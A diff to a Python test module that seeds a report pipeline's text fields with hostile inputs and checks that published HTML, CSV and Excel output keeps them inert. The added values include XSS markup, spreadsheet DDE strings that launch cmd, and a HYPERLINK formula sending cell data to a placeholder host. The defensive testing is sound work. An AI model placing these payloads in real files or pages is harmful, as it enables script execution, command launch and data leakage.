@@ -5,6 +5,8 @@ quotes), a fact's note, a check's description and note, an indicator's names, a 
 a scenario's description, a source's titles and issuer, and an edition value; one run publishes
 it (few draws, so it stays fast); every published HTML page must then be free of executable
 markup: no ``<script>``, no event-handler attribute, no ``javascript:`` URL, no ``<iframe>``.
+The text fields also begin with a spreadsheet formula (:data:`FORMULAS`): no published table may
+hold a formula (CSV cells neutralised with a leading apostrophe, workbook cells strings).
 """
 
 from __future__ import annotations
@@ -29,6 +31,15 @@ PAYLOAD = ("<img src=x onerror=alert(document.domain)><script>alert(document.coo
            "[click](javascript:alert(document.domain))<a href=javascript:alert(document.domain)>"
            "x</a><svg onload=alert(document.domain)>")
 """No digits, so the completeness check of the documents is not disturbed."""
+FORMULAS = {  # the scenario's description and a fact's note reach no table; kept as hostile text
+    "check": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "indicator_en": "=1+2",
+    "indicator_zh": "@SUM(1,2)",
+    "parameter": "+cmd|' /C calc'!A0",
+    "scenario": "-2+3+cmd|' /C calc'!A0",
+    "fact_note": "\t=1+2",
+}
+"""A formula at the start of each text field (a spreadsheet would run it if a table held it)."""
 FACT = "plan2013.2012.sales_revenue"
 CHECK_ID = "projects_2012_split"
 INDICATOR = "sales_revenue"
@@ -64,7 +75,7 @@ def hostile_project(root: Path) -> Path:
     old_quote = row["quote"]
     _replace_once(document, old_quote, old_quote + PAYLOAD)
     row["quote"] = old_quote + PAYLOAD
-    row["note"] = PAYLOAD
+    row["note"] = FORMULAS["fact_note"] + PAYLOAD
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
     writer.writeheader()
@@ -86,21 +97,26 @@ def hostile_project(root: Path) -> Path:
                   f"  - id: {CHECK_ID}\n    note: {_yaml_str(PAYLOAD)}\n")
     text = (data / "checks.yaml").read_text(encoding="utf-8")
     text = re.sub(rf"(- id: {CHECK_ID}\n(?:    .*\n)*?    description: )(.*)",
-                  lambda m: m.group(1) + _yaml_str(m.group(2) + PAYLOAD), text, count=1)
+                  lambda m: m.group(1) + _yaml_str(FORMULAS["check"] + m.group(2) + PAYLOAD),
+                  text, count=1)
     (data / "checks.yaml").write_text(text, encoding="utf-8")
     # an indicator's names
     text = (data / "indicators.yaml").read_text(encoding="utf-8")
     text = re.sub(rf"(\{{id: {INDICATOR}, name_zh: )([^,]*)(, name_en: )([^,]*)",
-                  lambda m: (m.group(1) + _yaml_str(m.group(2) + PAYLOAD) + m.group(3)
-                             + _yaml_str(m.group(4) + PAYLOAD)), text, count=1)
+                  lambda m: (m.group(1) + _yaml_str(FORMULAS["indicator_zh"] + m.group(2)
+                                                    + PAYLOAD)
+                             + m.group(3) + _yaml_str(FORMULAS["indicator_en"] + m.group(4)
+                                                      + PAYLOAD)), text, count=1)
     (data / "indicators.yaml").write_text(text, encoding="utf-8")
     # a parameter's and a scenario's description
     _replace_once(data / "model" / "parameters.yaml",
                   f"  {PARAMETER}:\n    description: ",
-                  f"  {PARAMETER}:\n    description: {_yaml_str(PAYLOAD)}\n    # ")
+                  f"  {PARAMETER}:\n    description: "
+                  f"{_yaml_str(FORMULAS['parameter'] + PAYLOAD)}\n    # ")
     _replace_once(data / "model" / "scenarios.yaml",
                   f"  {SCENARIO}:\n    description: ",
-                  f"  {SCENARIO}:\n    description: {_yaml_str(PAYLOAD)}\n    # ")
+                  f"  {SCENARIO}:\n    description: "
+                  f"{_yaml_str(FORMULAS['scenario'] + PAYLOAD)}\n    # ")
     # an edition value that reaches prose (few draws: fast)
     edition = (data / "editions" / "2013.yaml").read_text(encoding="utf-8")
     edition = re.sub(r"^draws: .*$", "draws: 2000", edition, flags=re.M)
@@ -172,6 +188,96 @@ def test_executed_notebooks_keep_the_payload_as_text_only(hostile_run):
         text = nb.read_text(encoding="utf-8")
         for html in re.findall(r'"text/html": \[(.*?)\]', text, flags=re.S):
             assert "<script>alert" not in html.replace("\\n", "")
+
+
+def _csv_cells(root: Path) -> dict[str, list[str]]:
+    """Every cell of every published CSV table, by file name."""
+    cells = {}
+    for path in sorted((root / "reports" / "2013" / "tables").glob("*.csv")):
+        with open(path, encoding="utf-8-sig", newline="") as handle:
+            cells[path.name] = [c for row in csv.reader(handle) for c in row]
+    return cells
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_published_csv_cell_is_a_formula_and_each_payload_is_shown_inert(hostile_run):
+    root, done = hostile_run
+    assert done.returncode == 0, done.stderr[-3000:]
+    cells = _csv_cells(root)
+    live = [(name, c[:40]) for name, found in cells.items() for c in found
+            if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _is_number(c)]
+    assert live == []
+    # where the fields reach a CSV table (the others reach the workbook, in words, or no table)
+    for field, table in (("check", "audit_results.csv"), ("parameter", "model_assumptions.csv")):
+        assert any(c.startswith("'" + FORMULAS[field]) for c in cells[table]), (field, table)
+
+
+def test_no_workbook_cell_is_a_formula(hostile_run):
+    from zipfile import ZipFile
+
+    from openpyxl import load_workbook
+
+    root, done = hostile_run
+    assert done.returncode == 0, done.stderr[-3000:]
+    workbook = root / "reports" / "2013" / "tables.xlsx"
+    with ZipFile(workbook) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
+                                  for n in sheets)
+    book = load_workbook(workbook)
+    formulas = [(s.title, c.coordinate) for s in book.worksheets for row in s.iter_rows()
+                for c in row if c.data_type == "f"]
+    assert formulas == []
+    def text(sheet: str) -> list[str]:
+        return [c.value for row in book[sheet].iter_rows() for c in row
+                if isinstance(c.value, str)]
+
+    # each formula shown as text where the issue found it live
+    for field, sheet in (("check", "audit_results"), ("parameter", "model_assumptions"),
+                         ("indicator_en", "implied_values"), ("indicator_zh", "implied_values"),
+                         ("indicator_en", "model_inputs"), ("indicator_zh", "model_inputs")):
+        assert any(FORMULAS[field] in t for t in text(sheet)), (field, sheet)
+
+
+def test_cell_neutralisation_keeps_numbers_and_plain_text():
+    import pandas as pd
+
+    from evaluation.reports.cells import neutral_table
+
+    frame = pd.DataFrame({"text": ["=1+2", "+cmd", "-x", "@SUM(1)", "\t=1", "\r=1", "plain",
+                                   "'=kept", None],
+                          "value": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0]})
+    out = neutral_table(frame)
+    assert out["text"].iloc[:-1].tolist() == ["'=1+2", "'+cmd", "'-x", "'@SUM(1)", "'\t=1",
+                                              "'\r=1", "plain", "'=kept"]
+    assert pd.isna(out["text"].iloc[-1])
+    assert out["value"].tolist() == frame["value"].tolist() and out["value"].dtype == float
+    assert frame["text"].iloc[0] == "=1+2"  # the caller's frame unchanged
+
+
+def test_a_workbook_from_a_table_of_formulas_holds_strings(tmp_path):
+    """Text read from a CSV (even one not written by save_table) is a string cell."""
+    from openpyxl import load_workbook
+
+    from evaluation.reports.workbook import write_workbook
+
+    (tmp_path / "tables").mkdir()
+    (tmp_path / "tables" / "audit_results.csv").write_text(
+        'check_id,description,gap\nx,"=HYPERLINK(""http://e.invalid"",""c"")",-0.5\n'
+        "y,@SUM(1;2),1\n", encoding="utf-8")
+    book = load_workbook(write_workbook(tmp_path, languages=("en",)))
+    cells = {c.value: c.data_type for s in book.worksheets for row in s.iter_rows()
+             for c in row if c.value is not None}
+    assert cells['=HYPERLINK("http://e.invalid","c")'] == "s"
+    assert cells["@SUM(1;2)"] == "s"
+    assert cells[-0.5] == "n"  # numbers stay numbers
 
 
 # --- the two defences on their own (fast) -------------------------------------------------------
